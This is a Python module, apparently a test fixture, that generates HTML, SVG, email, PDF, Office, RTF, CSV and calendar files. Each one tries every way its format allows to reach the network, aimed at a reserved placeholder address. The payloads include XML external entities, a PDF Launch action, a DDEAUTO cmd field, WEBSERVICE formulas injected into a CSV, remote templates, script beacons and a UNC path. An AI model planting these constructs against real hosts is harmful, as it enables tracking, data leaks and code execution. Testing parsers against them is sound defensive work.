"""Proofs that want to reach a network, each by all the ways its format has."""

import base64
import io
import plistlib
import zipfile
from typing import Final

FAR: Final = "http://192.0.2.1"
"""A machine that there is not (RFC 5737), so that nothing has to be resolved first."""
NAMED: Final = "http://tracker.invalid"

_SVG: Final = f"""<?xml version="1.0"?><?xml-stylesheet href="{FAR}/style.css"?>
<!DOCTYPE svg [<!ENTITY far SYSTEM "{FAR}/entity">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="99" height="99">
<style>@import url({FAR}/i.css); rect {{ fill: url({FAR}/f.svg#f) }}</style><script href="{FAR}/s.js"/>
<rect width="90" height="90"/><image href="{FAR}/a.png" width="9" height="9"/>
<image xlink:href="{NAMED}/b.png" width="9" height="9"/><use href="{FAR}/u.svg#u"/>
<foreignObject width="9" height="9">
<iframe xmlns="http://www.w3.org/1999/xhtml" src="{FAR}/g"/></foreignObject>
<text y="50">Plan</text></svg>"""

PAGE: Final = f"""<!doctype html><html manifest="{FAR}/m"><head><meta charset="utf-8"><base href="{NAMED}/">
<meta http-equiv="refresh" content="0;url={FAR}/refresh"><meta http-equiv="Content-Security-Policy"
 content="default-src *; report-uri {FAR}/report"><link rel="stylesheet" href="{FAR}/a.css">
<link rel="stylesheet" href="//tracker.invalid/b.css"><link rel="preload" as="image" href="{FAR}/p.png">
<link rel="prefetch" href="{FAR}/p"><link rel="prerender" href="{FAR}/r"><link rel="preconnect" href="{FAR}">
<link rel="dns-prefetch" href="//dns.invalid"><link rel="icon" href="{FAR}/icon.ico"><link rel="manifest"
 href="{FAR}/m.json"><link rel="modulepreload" href="{FAR}/m.js"><script src="{FAR}/s.js"></script>
<script type="speculationrules">{{"prefetch":[{{"source":"list","urls":["{FAR}/spec"]}}]}}</script>
<style>@import "{FAR}/i.css"; @font-face {{ font-family: far; src: url({FAR}/f.woff2) }}
body {{ font-family: far; background: url({FAR}/back.png) }} li {{ list-style-image: url({FAR}/l.png) }}
p {{ cursor: url({FAR}/c.cur), auto; border-image: url({FAR}/b.png) 3 }}
p::after {{ content: url({FAR}/d.png) }}
@page {{ background: url({FAR}/page.png) }}</style>
<script>new WebSocket("ws://192.0.2.1/"); fetch("{FAR}/x"); navigator.sendBeacon("{FAR}/y");
new RTCPeerConnection({{iceServers:[{{urls:"stun:192.0.2.1"}}]}}).createDataChannel("");
new Image().src="{FAR}/z"; navigator.serviceWorker.register("{FAR}/w.js"); open("{FAR}/o")</script></head>
<body background="{FAR}/body.png" onload="location='{FAR}/onload'"><p>Bonjour, votre colis est en retard.</p>
<ul><li>une ligne</li></ul><img src="{NAMED}/pixel.gif" width="1" height="1"><img srcset="{FAR}/2x.png 2x">
<picture><source srcset="{FAR}/w.webp"><img src="{FAR}/i.png" loading="eager"></picture>
<iframe src="{FAR}/frame"></iframe><iframe srcdoc="<img src='{FAR}/inner.png'>"></iframe>
<object data="{FAR}/o.pdf"></object><embed src="{FAR}/e.swf"><video src="{FAR}/v.mp4" poster="{FAR}/v.png"
 autoplay></video><audio src="{FAR}/a.mp3" autoplay></audio><track src="{FAR}/t.vtt">
<table background="{FAR}/t.png">
<tr><td>case</td></tr></table><form action="{FAR}/form" id="f"><input type="image" src="{FAR}/s.png"></form>
<script>document.getElementById("f").submit()</script><a href="{FAR}/a" ping="{FAR}/ping">suite</a>
<svg width="9" height="9"><image href="{FAR}/s.png" width="9" height="9"/><use href="{FAR}/u.svg#u"/></svg>
<img src="data:image/svg+xml;base64,{base64.b64encode(_SVG.encode()).decode()}">
<frameset><frame src="{FAR}/fs">
</frameset><math href="{FAR}/math"></math></body></html>"""

_MAIL: Final = f"""From: Boutique <contact@tracker.invalid>
To: Client <client@example.org>
Date: Mon, 2 Mar 2026 10:00:00 +0100
Subject: Votre colis
Message-ID: <1@tracker.invalid>
List-Unsubscribe: <{FAR}/unsubscribe>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
Disposition-Notification-To: contact@tracker.invalid
MIME-Version: 1.0
"""

_INVITATION: Final = f"""BEGIN:VCALENDAR
VERSION:2.0
BEGIN:VEVENT
DTSTART:20260302T100000Z
SUMMARY:Expertise
URL:{FAR}/meeting
ATTACH:{FAR}/plan.pdf
IMAGE;VALUE=URI:{FAR}/i.png
END:VEVENT
END:VCALENDAR
"""

_PARTS: Final = (
    ("text/html; charset=utf-8", PAGE),
    ("text/calendar; charset=utf-8", _INVITATION),
    (f'message/external-body; access-type=URL; URL="{FAR}/body"', "Content-Type: text/plain\n\nailleurs"),
    (
        'message/external-body; access-type=anon-ftp; site="192.0.2.1"; name="x.pdf"',
        "Content-Type: application/pdf\n\n",
    ),
    ("image/svg+xml", _SVG),
)


def _mail() -> bytes:
    parts = "".join(f"--b\nContent-Type: {kind}\n\n{body}\n" for kind, body in _PARTS)
    return f'{_MAIL}Content-Type: multipart/mixed; boundary="b"\n\n{parts}--b--\n'.encode()


def _related() -> bytes:
    page = f"--b\nContent-Type: text/html\nContent-Location: {FAR}/page\n\n{PAGE}\n"
    return (
        f"From: <Saved by Blink>\nSnapshot-Content-Location: {FAR}/page\nSubject: Conditions\n"
        f'MIME-Version: 1.0\nContent-Type: multipart/related; type="text/html"; boundary="b"\n\n{page}--b--\n'
    ).encode()


def _warc() -> bytes:
    body = PAGE.encode()
    answer = (
        b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nRefresh: 0;url=%s/r\r\n" % FAR.encode()
    )
    block = answer + b"Link: <%s/l.css>; rel=preload\r\n\r\n" % FAR.encode() + body
    head = (
        f"WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: {FAR}/page\r\n"
        "WARC-Date: 2026-03-02T10:00:00Z\r\n"
        "WARC-Record-ID: <urn:uuid:1>\r\nContent-Type: application/http; msgtype=response\r\n"
        f"Content-Length: {len(block)}\r\n\r\n"
    )
    return head.encode() + block + b"\r\n\r\n"


def _webarchive() -> bytes:
    main = {
        "WebResourceData": PAGE.encode(),
        "WebResourceMIMEType": "text/html",
        "WebResourceTextEncodingName": "UTF-8",
        "WebResourceURL": f"{FAR}/page",
        "WebResourceFrameName": "",
    }
    return plistlib.dumps({"WebMainResource": main}, fmt=plistlib.FMT_BINARY)


def _pdf() -> bytes:
    far = FAR.encode()
    actions = (
        b"<< /S /URI /URI (%s/uri) >>" % far,
        b"<< /S /Launch /F << /Type /Filespec /FS /URL /F (%s/x.exe) >> >>" % far,
        b"<< /S /SubmitForm /F << /FS /URL /F (%s/submit) >> >>" % far,
        b"<< /S /ImportData /F << /FS /URL /F (%s/import) >> >>" % far,
        b"<< /S /GoToR /F << /FS /URL /F (%s/other.pdf) >> /D [0 /Fit] >>" % far,
        b"<< /S /JavaScript /JS (app.launchURL\\('%s/js'\\); this.submitForm\\('%s/js'\\)) >>" % (far, far),
    )
    links = b" ".join(
        b"<< /Type /Annot /Subtype /Link /Rect [9 %d 99 %d] /A %s >>" % (n * 20, n * 20 + 15, action)
        for n, action in enumerate(actions)
    )
    elsewhere = b"/Length 0 /F << /FS /URL /F (%s/stream) >>" % far
    objects = (
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction %s /AA << /WC %s >> /URI << /Base (%s/) >> >>"
        % (actions[5], actions[0], far),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /AA << /O %s >> /Annots [%s]"
        b" /Resources << /XObject << /I 5 0 R >> >> >>" % (actions[2], links),
        b"<< /Length 45 >>\nstream\n99 99 200 200 re f q 90 0 0 90 9 400 cm /I Do Q\nendstream",
        b"<< /Type /XObject /Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceGray /BitsPerComponent 8"
        b" %s >>\nstream\n\nendstream" % elsewhere,
    )
    made = b"%PDF-1.7\n"
    for number, body in enumerate(objects, 1):
        made += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    return made + b"trailer\n<< /Size 6 /Root 1 0 R >>\n%%EOF\n"


def _zipped(*members: tuple[str, str]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as box:
        for name, text in members:
            box.writestr(name, text)
    return made.getvalue()


def _relations(*lines: tuple[str, str, str]) -> str:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    far = ' TargetMode="External"'
    rows = "".join(
        f'<Relationship Id="{key}" Type="{kind}/{what}" Target="{target}"{far if "://" in target else ""}/>'
        for key, what, target in lines
    )
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<?xml version="1.0"?><Relationships xmlns="{space}">{rows}</Relationships>'


def _types(part: str, kind: str) -> str:
    return (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/'
        f'{part}" ContentType="application/vnd.openxmlformats-officedocument.{kind}.main+xml"/></Types>'
    )


def _docx() -> bytes:
    word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    draw = "http://schemas.openxmlformats.org/drawingml/2006"
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    document = (
        f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY far SYSTEM "{FAR}/entity">]>'
        f'<w:document xmlns:w="{word}" xmlns:r="{kind}"><w:body><w:p><w:r><w:t>Lettre &far;</w:t></w:r></w:p>'
        f'<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;{FAR}/f.png&quot; \\d "/></w:p>'
        f'<w:p><w:fldSimple w:instr=" DDEAUTO cmd &quot;{FAR}/dde&quot; "/></w:p><w:altChunk r:id="r3"/>'
        f'<w:p><w:r><w:drawing><a:blip xmlns:a="{draw}/main" r:link="r1"/></w:drawing></w:r></w:p>'
        "</w:body></w:document>"
    )
    return _zipped(
        ("[Content_Types].xml", _types("word/document.xml", "wordprocessingml.document")),
        ("_rels/.rels", _relations(("r1", "officeDocument", "word/document.xml"))),
        ("word/document.xml", document),
        (
            "word/_rels/document.xml.rels",
            _relations(
                ("r1", "image", f"{FAR}/i.png"),
                ("r2", "settings", "settings.xml"),
                ("r3", "aFChunk", f"{FAR}/chunk.html"),
            ),
        ),
        ("word/settings.xml", f'<w:settings xmlns:w="{word}"><w:attachedTemplate w:val="r1"/></w:settings>'),
        ("word/_rels/settings.xml.rels", _relations(("r1", "attachedTemplate", f"{FAR}/t.dotm"))),
    )


def _xlsx() -> bytes:
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    formula = f'WEBSERVICE("{FAR}/w")'
    return _zipped(
        ("[Content_Types].xml", _types("xl/workbook.xml", "spreadsheetml.sheet")),
        ("_rels/.rels", _relations(("r1", "officeDocument", "xl/workbook.xml"))),
        (
            "xl/workbook.xml",
            f'<workbook xmlns="{space}" xmlns:r="{kind}"><sheets>'
            '<sheet name="Frais" sheetId="1" r:id="r1"/></sheets>'
            '<externalReferences><externalReference r:id="r2"/></externalReferences></workbook>',
        ),
        (
            "xl/_rels/workbook.xml.rels",
            _relations(
                ("r1", "worksheet", "worksheets/sheet1.xml"),
                ("r2", "externalLink", f"{FAR}/book.xlsx"),
                ("r3", "connections", "connections.xml"),
            ),
        ),
        (
            "xl/worksheets/sheet1.xml",
            f'<worksheet xmlns="{space}"><sheetData><row r="1">'
            f'<c r="A1" t="str"><f>{formula}</f><v>12</v></c></row>'
            "</sheetData></worksheet>",
        ),
        (
            "xl/connections.xml",
            f'<connections xmlns="{space}"><connection id="1" name="w" type="4" refreshOnLoad="1">'
            f'<webPr url="{FAR}/query"/></connection></connections>',
        ),
    )


def _odt() -> bytes:
    spaces = "urn:oasis:names:tc:opendocument:xmlns"
    content = (
        f'<?xml version="1.0"?><office:document-content xmlns:office="{spaces}:office:1.0"'
        f' xmlns:text="{spaces}:text:1.0" xmlns:draw="{spaces}:drawing:1.0"'
        ' xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><office:text>'
        f'<text:p>Lettre <draw:frame><draw:image xlink:href="{FAR}/i.png"/></draw:frame>'
        f'</text:p><text:section text:name="s"><text:section-source xlink:href="{FAR}/s.odt"/>'
        "<text:p>suite</text:p></text:section>"
        "</office:text></office:body></office:document-content>"
    )
    return _zipped(("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", content))


def _rtf() -> bytes:
    return (
        rf"{{\rtf1\ansi {{\*\template {FAR}/t.dot}}Lettre "
        rf'{{\field{{\*\fldinst INCLUDEPICTURE "{FAR}/i.png" \\d}}}}'
        rf'{{\field{{\*\fldinst HYPERLINK "{FAR}/h"}}{{\fldrslt lien}}}}\par}}'
    ).encode()


def _sms() -> bytes:
    return (
        f'<?xml version="1.0"?><!DOCTYPE s SYSTEM "{FAR}/s.dtd" [<!ENTITY far SYSTEM "{FAR}/entity">]>'
        '<smses count="1"><sms address="+33600000000" date="1773300000000" type="1" body="ok">&far;'
        "</sms></smses>"
    ).encode()


def hostile_files() -> dict[str, bytes]:
    """Makes one of each, by the name it comes in with."""
    files = {
        "courriel.eml": _mail(),
        "page.html": PAGE.encode(),
        "conditions.mhtml": _related(),
        "archive.warc": _warc(),
        "safari.webarchive": _webarchive(),
        "plan.svg": _SVG.encode(),
        "facture.pdf": _pdf(),
        "lettre.docx": _docx(),
        "frais.xlsx": _xlsx(),
        "lettre.odt": _odt(),
        "lettre.rtf": _rtf(),
        "frais.csv": f'Date;Montant\n2026-03-02;=WEBSERVICE("{FAR}/w")\n'.encode(),
        "messages.xml": _sms(),
        "rendez-vous.ics": _INVITATION.encode(),
        "note.txt": f"Voir {FAR}/note et \\\\192.0.2.1\\partage\\x.pdf".encode(),
    }
    inside = io.BytesIO()
    with zipfile.ZipFile(inside, "w") as box:
        box.writestr("dans-le-zip.eml", _mail().replace(b"Votre colis", b"Votre autre colis"))
    return {**files, "tout.zip": inside.getvalue()}
